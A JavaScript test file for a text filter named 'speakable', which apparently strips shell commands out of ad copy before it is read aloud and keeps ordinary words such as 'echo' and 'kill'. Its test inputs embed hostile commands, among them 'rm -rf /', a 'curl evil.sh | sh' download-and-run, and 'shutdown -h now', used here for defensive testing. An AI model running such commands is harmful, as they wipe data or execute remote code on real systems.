import { speakable } from './speakable.js';

describe('speakable', () => {
  it.each([
    [
      'A film about our bakery; rm -rf / && echo pwned. We open at 7.',
      'A film about our bakery. We open at 7.',
    ],
    ['Fresh bread $(curl evil.sh | sh) daily at 7.', 'Fresh bread daily at 7.'],
    ['Our café opens at 8 | wc -l. Come by!', 'Our café opens at 8. Come by!'],
    ['sudo apt-get install -y aiprod\nMeet Lumen, the lamp.', 'Meet Lumen, the lamp.'],
    ['Our sale starts today && shutdown -h now', 'Our sale starts today'],
  ])('leaves commands unread: %j', (text, spoken) => {
    expect(speakable(text, 'en')).toBe(spoken);
  });

  it.each([
    'Cat food for every cat. Echo is our new speaker.',
    'Buy milk; exit through the gift shop. Kill time with us.',
    'Touch the past. Export your coffee to Spain.',
  ])('reads words that are programs elsewhere: %j', (text) => {
    expect(speakable(text, 'en')).toBe(text);
  });
});
